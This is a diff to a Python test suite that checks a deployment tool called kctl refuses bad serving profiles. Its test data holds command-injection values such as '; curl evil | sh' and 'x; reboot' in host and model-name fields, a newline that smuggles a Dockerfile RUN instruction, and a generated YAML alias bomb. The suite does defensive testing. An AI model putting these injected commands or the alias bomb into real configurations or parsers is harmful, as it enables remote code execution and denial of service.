@@ -44,7 +44,7 @@ F4. ``rollback-after-baseline-fatal-line[...]``: once the baseline's start logge
     runtime appends each start to the same log and health scans it from the top), so
     ``rollback`` stays DEGRADED after the cause is gone.
 F5. ``accepted-bad-profile[...]``: profiles kctl accepts but must refuse with exit 2 and
-    the field: shell metacharacters in ``server.host`` and ``server.model_path``, a newline
+    the field: shell metacharacters in ``server.host`` and ``server.served_model_name``, a newline
     in ``image.base`` (a second Dockerfile instruction), flags SGLang reads as a typed
     field (``--mem-fraction`` abbreviates ``--mem-fraction-static``,
     ``--tensor-parallel-size`` is ``--tp-size``), ``image.kernel_source`` outside the
@@ -255,16 +255,17 @@ def test_empty_store_is_refused(case: Case) -> None:
 
 # -- 7. profiles that cost too much ---------------------------------------------------------
 
+# 9**7 (4.8 million) nested mappings from under 600 bytes: each level is a mapping whose
+# nine values are all the level below
 BOMB = (
     "extends: cand.yaml\n"
-    'x-a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
-    "x-b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
-    "x-c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
-    "x-d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
-    "x-e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n"
-    "x-f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
-    "x-g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\n"
-    "description: *g\n"
+    + "".join(
+        f"x-{lvl}: &{lvl} {{"
+        + ", ".join(f"{k}: {'*' + prev if prev else 1}" for k in "abcdefghi")
+        + "}\n"
+        for prev, lvl in zip(["", *"abcdef"], "abcdefg")
+    )
+    + "description: *g\n"
 )
 
 
@@ -288,7 +289,7 @@ def _measured(case: Case, *args: str, timeout: float = 10) -> tuple[int, str, fl
 @known("7")
 def test_alias_bomb_refused_fast(case: Case) -> None:
     path = case.write("bomb.yaml", BOMB)
-    code, err, seconds, rss = _measured(case, "validate", path)
+    code, err, seconds, rss = _measured(case, "deploy", path)
     assert code == 2 and "bomb.yaml" in err, err
     assert seconds < 3 and rss < 200, (seconds, rss)
 
@@ -371,7 +372,11 @@ def test_rollback_after_baseline_fatal_line(case: Case, fault: str) -> None:
 
 ACCEPTED: list[tuple[str, str, str]] = [
     ("host-metachar", "server:\n  host: '127.0.0.1; curl evil | sh'\n", "server.host"),
-    ("model-path-metachar", "server:\n  model_path: '/models/x$(reboot)'\n", "server.model_path"),
+    (
+        "served-name-metachar",
+        "server:\n  served_model_name: 'x; reboot'\n",
+        "server.served_model_name",
+    ),
     ("image-base-newline", 'image:\n  base: "ubuntu\\nRUN curl evil | sh"\n', "image.base"),
     (
         "abbreviated-flag",
